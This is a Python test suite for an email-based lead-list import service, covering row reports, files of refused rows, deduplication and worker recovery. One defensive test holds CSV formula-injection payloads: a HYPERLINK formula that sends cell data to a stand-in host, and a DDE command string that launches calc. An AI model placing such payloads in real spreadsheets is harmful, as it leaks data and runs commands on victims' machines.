"""A list that is mailed to the lead address: each row once, one report, refused rows to be corrected. Rulebook 3.1."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import func, select

from app.domain.commands import DiscardLead, LoadProgramme, SubmitLead
from app.domain.files import Attachment
from app.domain.gate_commands import KeepBoth, MergeLeads
from app.domain.people import Person
from app.service.outcome import Origin
from app.service.programme_file import read_programme
from app.service.queries.import_page import import_page
from app.service.queries.page_of_link import wish_page
from app.store.imports import ImportRow
from app.store.work import reading
from app.tokens import Wish
from inbound.lists import SUBMITTED_AT_ONCE, Lists
from tests.edges.incoming import LEADS, PROGRAMME, Incoming, a_mail, reply_to
from tests.edges.lists import (
    HEADING,
    a_card,
    a_row,
    as_csv,
    as_xlsx,
    mailed_report,
    refused_rows_in,
    report_to,
    sends_lists,
    with_files,
)

pytestmark = pytest.mark.slow

VERA, ROLF = "Vera Vogt <vera@nordlicht.example>", "rolf@rolf-it.example"


def companies(incoming: Incoming) -> list[str]:
    return [str(lead.fields["company"]) for lead in incoming.leads()]


@pytest.mark.rule("3.1", "3.2")
def test_vera_gets_one_report_and_no_mail_for_each_row(incoming_on_both: Incoming) -> None:
    incoming = incoming_on_both
    sends_lists(
        incoming, "warm #fair", messe__csv=as_csv(a_row(1), a_row(2, PLZ=""), a_row(3, EMail="carla(at)muster"))
    )

    assert companies(incoming) == ["Muster 1 GmbH", "Muster 2 GmbH"]
    assert incoming.kinds_to("vera") == ["import_report"]
    report = report_to(incoming)
    assert (report.imported_count, report.incomplete_count, report.refused_count) == (2, 1, 1)
    assert [(row.row_number, row.why, row.missing) for row in report.imported] == [
        (3, "incomplete", ("postcode",)),
        (2, "unreleased", ()),
    ]
    assert [(row.number, row.column, row.text, row.problem) for row in report.refused] == [
        (4, "contact_email", "carla(at)muster", "not_an_address")
    ]


@pytest.mark.rule("3.2", "3.4")
def test_a_row_with_gaps_is_given_to_the_agency_by_naming_it_in_the_answer(incoming: Incoming) -> None:
    quentin = "  - {email: quentin@agentur.example, name: Quentin Quast, role: qualifier, agency: agentur}\n"
    programme = PROGRAMME.replace("people:\n", f"people:\n{quentin}", 1)
    incoming.do(LoadProgramme(programme=read_programme(programme, "programme.yaml"), files={}))
    sends_lists(incoming, "warm #fair", messe__csv=as_csv(a_row(1, PLZ=""), a_row(2), a_row(3)))
    gap = next(row for row in report_to(incoming).imported if row.missing)
    assert [action.wish for action in (gap.action, *gap.more)] == ["edit", "to_agency"]

    answer = a_mail(VERA, f"{gap.lead_ref} zur Qualifizierung", subject="Re: Liste")
    incoming.arrives(answer, reply_to(incoming.key_of("vera", "import_report")))

    assert incoming.wishes()[-1] == ("to_agency", "to_agency")
    assert [lead.state for lead in incoming.leads() if lead.ref == gap.lead_ref] == ["qualifying"]


@pytest.mark.rule("3.1")
def test_what_is_written_with_the_list_goes_for_rows_that_do_not_say_otherwise(incoming: Incoming) -> None:
    sends_lists(incoming, "hot", messe__csv=as_csv(a_row(1, Temperatur=""), a_row(2, Temperatur="cold")))

    assert [lead.fields["temperature"] for lead in incoming.leads()] == ["hot", "cold"]
    assert {lead.remarks for lead in incoming.leads()} == {"hot"}


@pytest.mark.rule("3.2")
def test_the_refused_rows_come_back_as_a_file_whose_corrected_version_is_imported(incoming: Incoming) -> None:
    sends_lists(incoming, messe__csv=as_csv(a_row(1), a_row(2, Telefon="12", Land="Atlantis"), a_row(3)))
    name, content, rows = refused_rows_in(mailed_report(incoming))
    assert name == "messe-abgelehnt.csv"
    assert rows[0] == ["Zeile", "Bitte berichtigen", *HEADING]
    assert rows[1][0] == "3"
    assert "Telefon „12“: keine mögliche Telefonnummer" in rows[1][1]
    assert "Land „Atlantis“: kein Land" in rows[1][1]

    corrected = content.decode("utf-8-sig").replace(";12;", ";089 123456;").replace("Atlantis;arm", "DE;arm").encode()
    answer = with_files(a_mail(VERA, "Berichtigt.", subject="Re: Liste"), messe_abgelehnt__csv=corrected)
    incoming.arrives(answer, reply_to(incoming.key_of("vera", "import_report")))

    assert companies(incoming) == ["Muster 1 GmbH", "Muster 3 GmbH", "Muster 2 GmbH"]
    assert incoming.leads()[2].fields["contact_phone"] == "+4989123456"
    assert report_to(incoming).refused_count == 0


@pytest.mark.rule("3.2")
def test_the_same_file_again_imports_nothing_and_says_which_leads_it_is(incoming: Incoming) -> None:
    """Seen failing with the import's own number in the rows' keys: every lead was there twice."""
    messe = as_csv(a_row(1), a_row(2))
    sends_lists(incoming, "warm", messe__csv=messe)
    sends_lists(incoming, "again, warm", messe__csv=messe)

    assert len(incoming.leads()) == 2
    report = report_to(incoming)
    assert (report.imported_count, report.earlier_count) == (0, 2)
    assert [row.lead_ref for row in report.imported] == ["L-1", "L-2"]


@pytest.mark.rule("3.2")
def test_the_whole_list_sent_again_with_one_row_corrected_imports_that_row_alone(incoming_on_both: Incoming) -> None:
    """Seen failing with the file's digest as the only key: the corrected file is another, and all rows came twice."""
    incoming = incoming_on_both
    sends_lists(incoming, messe__csv=as_csv(a_row(1), a_row(2, EMail="carla(at)muster"), a_row(3)))
    sends_lists(incoming, messe__csv=as_csv(a_row(1), a_row(2), a_row(3)))

    assert companies(incoming) == ["Muster 1 GmbH", "Muster 3 GmbH", "Muster 2 GmbH"]
    assert report_to(incoming).earlier_count == 2


@pytest.mark.rule("3.2")
def test_a_row_that_stands_twice_in_a_list_is_one_lead(incoming: Incoming) -> None:
    sends_lists(incoming, a__csv=as_csv(a_row(1), a_row(1)), b__csv=as_csv(a_row(1)))

    assert companies(incoming) == ["Muster 1 GmbH"]
    refused = [(row.filename, row.number, row.problem, row.text) for row in report_to(incoming).refused]
    assert refused == [("a.csv", 3, "duplicate_row", "2"), ("b.csv", 2, "duplicate_row", "2")]


@pytest.mark.rule("3.1")
def test_each_card_is_a_lead_whether_in_one_file_or_in_several(incoming: Incoming) -> None:
    sends_lists(incoming, "cold", one__vcf=a_card("Carla") + a_card("Conny"), two__vcf=a_card("Chris"))

    assert companies(incoming) == ["Carla GmbH", "Conny GmbH", "Chris GmbH"]
    assert incoming.kinds_to("vera") == ["import_report"]


@pytest.mark.rule("3.1")
def test_a_customers_own_spreadsheet_stays_a_file_of_the_lead(incoming: Incoming) -> None:
    """A list of parts has a heading too, but names nobody."""
    forwarded = """warm

---------- Forwarded message ---------
Von: Carla Muster <carla@metallbau-muster.example>
Date: Di., 3. März 2026 um 08:12 Uhr
Subject: Anfrage

Bitte um ein Angebot für die Teile im Anhang.
Carla Muster, Metallbau Muster GmbH, 80331 München
"""
    parts = as_xlsx(["Artikel", "Menge", "Preis"], ["Greifer", 2, 800.0], ["Arm", 1, 12500.0])
    incoming.arrives(with_files(a_mail(VERA, forwarded, subject="Fwd: Anfrage"), teile__xlsx=parts))

    assert len(incoming.leads()) == 1
    assert incoming.kinds_to("vera") == ["lead_received"]
    with incoming.looking() as session:
        assert list(session.scalars(select(Attachment.filename))) == ["teile.xlsx"]


@pytest.mark.rule("3.1")
def test_a_colleagues_list_that_is_forwarded_is_a_list(incoming: Incoming) -> None:
    forwarded = """cold

---------- Forwarded message ---------
Von: Max Maurer <max@nordlicht.example>
Date: Di., 3. März 2026 um 08:12 Uhr
Subject: Messekontakte

Hier die Liste.
"""
    incoming.arrives(with_files(a_mail(VERA, forwarded, subject="Fwd: Messe"), messe__csv=as_csv(a_row(1), a_row(2))))

    assert companies(incoming) == ["Muster 1 GmbH", "Muster 2 GmbH"]


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
LOCKED = OLD + "EncryptedPackage".encode("utf-16-le")


@pytest.mark.rule("3.2")
@pytest.mark.parametrize(
    ("content", "name", "problem"),
    [
        (OLD, "liste__xls", "old_excel"),
        (LOCKED, "liste__xlsx", "encrypted"),
        (b"PK\x03\x04 broken", "liste__xlsx", "unreadable"),
        (b"", "liste__csv", "empty_file"),
        (as_csv(), "liste__csv", "empty_file"),
        (b"1;2\r\n3;4", "liste__csv", "no_heading"),
        (b"Firma;Ort\r\n" + b"Muster;Ulm\r\n" * 100_001, "liste__csv", "too_many_rows"),
    ],
)
def test_a_file_that_cannot_be_taken_is_answered_with_what_was_expected(
    incoming: Incoming, content: bytes, name: str, problem: str
) -> None:
    incoming.arrives(with_files(a_mail(VERA, "", subject="Liste"), **{name: content}))

    assert incoming.leads() == []
    assert [file.problem for file in report_to(incoming).files] == [problem]


@pytest.mark.rule("3.2", "9.4")
def test_a_partner_imports_nothing(incoming: Incoming) -> None:
    incoming.arrives(with_files(a_mail(ROLF, "warm", subject="Liste"), messe__csv=as_csv(a_row(1))))

    assert incoming.leads() == []
    assert incoming.wishes() == [("import", "not_permitted")]
    assert incoming.kinds_to("rolf") == ["refused"]


@pytest.mark.rule("9.2")
def test_a_list_that_nothing_proves_to_be_veras_waits_for_her_yes(incoming: Incoming) -> None:
    mail = a_mail(VERA, "warm", subject="Liste", proof="dmarc=fail")
    incoming.arrives(with_files(mail, messe__csv=as_csv(a_row(1))))

    assert incoming.leads() == []
    assert incoming.kinds_to("vera") == ["confirm_wish"]


@pytest.mark.rule("3.4")
def test_with_auto_release_complete_rows_go_out_and_others_wait(incoming: Incoming) -> None:
    programme = PROGRAMME.replace("people:", "settings: {auto_release: true}\npeople:", 1)
    incoming.do(LoadProgramme(programme=read_programme(programme, "programme.yaml"), files={}))

    sends_lists(incoming, messe__csv=as_csv(a_row(1), a_row(2, Quelle="")))

    assert [lead.state for lead in incoming.leads()] == ["offered", "received"]
    assert (report_to(incoming).on_offer_count, report_to(incoming).incomplete_count) == (1, 1)
    assert incoming.kinds_to("rolf") == ["lead_offer"]


@pytest.mark.rule("3.2")
def test_of_a_long_list_a_first_mail_says_that_it_is_on_its_way(
    incoming: Incoming, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.store.imports.LONG", 3)
    sends_lists(incoming, messe__csv=as_csv(a_row(1), a_row(2)))
    sends_lists(incoming, halle__csv=as_csv(a_row(3), a_row(4), a_row(5), a_row(6, Telefon="12")))

    assert incoming.kinds_to("vera") == ["import_report", "done", "import_report"]
    begun = incoming.letters_to("vera")[1].context
    assert begun["code"] == "list_begun"
    assert [(row["name"], row["value"]) for row in begun["facts"]] == [("rows", "4"), ("file", "halle.csv")]


@pytest.mark.rule("9.6")
def test_an_import_whose_worker_is_killed_goes_on_and_no_row_comes_twice(
    incoming_on_both: Incoming, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Killed after a set was done and before that was noted: seen failing with keys made of the time of the attempt."""
    incoming = incoming_on_both
    rows = [a_row(number) for number in range(SUBMITTED_AT_ONCE + 20)]

    def killed(*_: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Lists, "_note", killed)
    with pytest.raises(KeyboardInterrupt):
        sends_lists(incoming, messe__csv=as_csv(*rows))
    assert len(incoming.leads()) == SUBMITTED_AT_ONCE
    monkeypatch.undo()

    assert incoming.lists.run_once() == 0, "another worker leaves it alone while the lease lasts"
    incoming.clock.advance(timedelta(minutes=2))
    assert incoming.lists.run_once() == 1

    assert len(incoming.leads()) == len(rows)
    report = report_to(incoming)
    assert (report.imported_count, report.earlier_count) == (len(rows), 0)
    assert incoming.kinds_to("vera") == ["import_report"]


@pytest.mark.rule("3.2")
def test_rows_of_a_list_are_kept_for_a_month_and_leads_for_good(incoming: Incoming) -> None:
    sends_lists(incoming, messe__csv=as_csv(a_row(1), a_row(2, Telefon="12")))

    incoming.clock.advance(timedelta(days=31))
    sends_lists(incoming, "later", neu__csv=as_csv(a_row(9)))

    with incoming.looking() as session:
        assert session.scalar(select(func.count()).select_from(ImportRow)) == 1
    assert len(incoming.leads()) == 2


@pytest.mark.rule("2")
def test_vera_completes_and_releases_rows_by_replies_to_the_report(incoming: Incoming) -> None:
    sends_lists(incoming, messe__csv=as_csv(a_row(1, PLZ=""), a_row(2)))
    key = incoming.key_of("vera", "import_report")

    incoming.arrives(a_mail(VERA, "1 PLZ 80331, freigeben", subject="Re: Liste"), reply_to(key))
    incoming.arrives(a_mail(VERA, "2 freigeben", subject="Re: Liste"), reply_to(key))

    assert incoming.wishes()[-3:] == [("edit", "edited"), ("release", "released"), ("release", "released")]
    assert incoming.lead(1).fields["postcode"] == "80331"
    assert [lead.state for lead in incoming.leads()] == ["offered", "offered"]


@pytest.mark.rule("3.2")
@pytest.mark.rule("2", "3.1")
@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("L-2 kalt", [None, "cold", None]),
        ("L-1 warm, L-2 kalt\nL-3 heiß", ["warm", "cold", "hot"]),
        ("L-1: warm\nL-3: heiß", ["warm", None, "hot"]),
        ("1 warm, 3 heiß", ["warm", None, "hot"]),
    ],
)
def test_rows_are_completed_by_naming_them_one_or_several(
    incoming: Incoming, words: str, expected: list[str | None]
) -> None:
    """As it was: *L-315 warm*, the one thing that was missing, brought the question which lead was meant."""
    sends_lists(incoming, messe__csv=as_csv(*(a_row(number, Temperatur="") for number in (1, 2, 3))))
    numbers = {int(row.lead_ref[2:]): place for place, row in enumerate(report_to(incoming).imported)}
    if words.startswith("1 "):
        expected = [expected[numbers[number]] for number in (1, 2, 3)]

    incoming.arrives(a_mail(VERA, words, subject="Re: Liste"), reply_to(incoming.key_of("vera", "import_report")))

    assert [lead.fields.get("temperature") for lead in incoming.leads()] == expected


def test_a_formula_is_text_and_leaves_us_as_text(incoming: Incoming) -> None:
    """Seen failing without the mark in front: a spreadsheet that opened the attached file would have run it."""
    formula = '=HYPERLINK("http://bad.example"&A1,"x")'
    sends_lists(incoming, messe__csv=as_csv(a_row(1, Firma=formula), a_row(2, Firma="+cmd|' /C calc'!A0", PLZ="x1")))

    assert companies(incoming) == [formula]
    _, content, rows = refused_rows_in(mailed_report(incoming))
    assert b";'+cmd|" in content
    assert rows[1][2] == "+cmd|' /C calc'!A0"


@pytest.mark.rule("9.4")
def test_the_same_list_for_two_vendors_is_two_lists(incoming: Incoming) -> None:
    """The key of a row names the vendor: seen failing without it, when the second vendor was told *imported before*."""
    other = PROGRAMME.replace("nordlicht,", "suedwind,").replace("vera@nordlicht", "vera@nordlicht")
    incoming.do(LoadProgramme(programme=read_programme(other, "programme.yaml"), files={}))
    messe = as_csv(a_row(1))

    sends_lists(incoming, messe__csv=messe)
    sends_lists(incoming, to=LEADS.replace("nordlicht", "suedwind"), messe__csv=messe)

    assert sorted(lead.vendor_id for lead in incoming.leads()) == [1, 2]


def test_a_set_is_handled_in_one_transaction_and_each_wish_for_itself(incoming_on_both: Incoming) -> None:
    """One refused wish of a set neither stops the others nor is lost."""
    incoming = incoming_on_both
    vera = incoming.person_id("vera")
    wishes = [
        (SubmitLead(by=vera, vendor_id=1, fields={"company": "A"}), Origin("list", "1")),
        (DiscardLead(by=vera, lead_id=999), Origin("list", "2")),
        (SubmitLead(by=vera, vendor_id=1, fields={"company": "B"}), Origin("list", "3")),
    ]
    first, again = incoming.parts.door.handle_all(wishes), incoming.parts.door.handle_all(wishes)

    assert [outcome.code for outcome in first] == ["submitted", "unknown", "submitted"]
    assert [outcome.repeated for outcome in again] == [True, True, True]
    assert companies(incoming) == ["A", "B"]


@pytest.mark.rule("3.2", "3.6")
def test_a_row_of_a_customer_with_an_open_lead_is_held_and_told_apart(incoming: Incoming) -> None:
    """Seen failing where no row was looked at for its twins: all *waited for release*, and two partners would call."""
    again = a_row(1, Bedarf="Jetzt drei Arme")
    sends_lists(incoming, messe__csv=as_csv(a_row(1), a_row(2), again))

    report = report_to(incoming)
    assert (report.imported_count, report.duplicate_count, report.unreleased_count) == (3, 1, 2)
    assert [(row.row_number, row.why, row.action.wish) for row in report.imported] == [
        (4, "duplicate", "merge"),
        (2, "unreleased", "release"),
        (3, "unreleased", "release"),
    ]


@pytest.mark.rule("3.2", "3.6")
def test_a_row_like_a_lead_that_came_before_is_held_until_vera_merges_or_keeps_both(incoming: Incoming) -> None:
    sends_lists(incoming, messe__csv=as_csv(a_row(1)))
    sends_lists(incoming, herbst__csv=as_csv(a_row(1, Bedarf="Jetzt drei Arme"), a_row(1, Bedarf="Und einen Greifer")))
    first, second, third = (lead.id for lead in incoming.leads())
    vera = incoming.person("vera").id

    assert [row.why for row in report_to(incoming).imported] == ["duplicate", "duplicate"]
    with reading(incoming.parts.database) as session:
        page = wish_page(session, incoming.clock.now(), Wish("open", vera, second))
        assert [(step.wish, step.option) for step in page.steps[:3]] == [
            ("merge", str(first)), ("keep_both", ""), ("release", ""),
        ]  # fmt: skip
    assert not incoming.do(MergeLeads(by=vera, lead_id=second, into_id=first)).refused
    assert not incoming.do(KeepBoth(by=vera, lead_id=third)).refused
    with reading(incoming.parts.database) as session:
        shown = import_page(session, session.get_one(Person, vera), 2, incoming.clock.now())
    assert [row.why for row in shown.imported] == ["merged", "unreleased"]
